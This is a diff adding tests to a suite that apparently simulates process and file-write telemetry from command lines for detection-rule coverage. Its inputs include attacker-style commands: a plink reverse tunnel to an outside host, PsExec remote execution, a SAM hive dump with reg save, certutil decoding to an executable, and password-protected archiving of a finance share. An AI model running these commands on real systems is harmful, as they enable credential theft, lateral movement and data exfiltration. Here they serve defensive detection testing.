@@ -191,3 +191,29 @@ describe('coverage over the implied telemetry', () => {
     expect(named).toEqual([['lsass access'], ['defender off'], ['module']]);
   });
 });
+
+describe('what a process event says about a known program', () => {
+  it('carries the version resource of programs whose rules read it, and nothing for others', () => {
+    const [plink] = eventsOf('plink.exe -ssh -R 127.0.0.1:4444:10.0.0.5:3389 user@203.0.113.7');
+    expect(plink).toEqual(expect.objectContaining({ Description: 'Command-line SSH, Telnet, and Rlogin client', Product: 'PuTTY suite' }));
+    const [psexec] = eventsOf('PsExec64.exe \\\\host cmd');
+    expect(psexec).toEqual(expect.objectContaining({ OriginalFileName: 'psexec.c', Company: 'Sysinternals - www.sysinternals.com' }));
+    const [tool] = eventsOf('C:\\Tools\\agent.exe --sync');
+    expect(tool).toEqual(expect.objectContaining({ OriginalFileName: 'agent.exe' }));
+    expect(tool).not.toHaveProperty('Description');
+  });
+});
+
+describe('the files a command writes', () => {
+  it('records the hive reg save writes, the file certutil decodes to and the archive an archiver creates', () => {
+    const written = (line: string) => withId(eventsOf(line), 11).map((event) => event['TargetFilename']);
+    expect(written('reg save HKLM\\SAM C:\\ProgramData\\sam.save')).toEqual(['C:\\ProgramData\\sam.save']);
+    expect(written('certutil -decode C:\\Users\\Public\\a.txt C:\\Users\\Public\\a.exe')).toEqual(['C:\\Users\\Public\\a.exe']);
+    expect(written('7z.exe a -pSecret C:\\ProgramData\\data.7z C:\\Shares\\Finance')).toEqual(['C:\\ProgramData\\data.7z']);
+    expect(written('Compress-Archive -Path C:\\Shares -DestinationPath C:\\Users\\Public\\s.zip')).toEqual(['C:\\Users\\Public\\s.zip']);
+    // Listing an archive or querying a key writes nothing; a relative target says nowhere.
+    expect(written('7z.exe l C:\\ProgramData\\data.7z')).toEqual([]);
+    expect(written('reg query HKLM\\SAM')).toEqual([]);
+    expect(written('reg save HKLM\\SYSTEM system.hiv')).toEqual([]);
+  });
+});
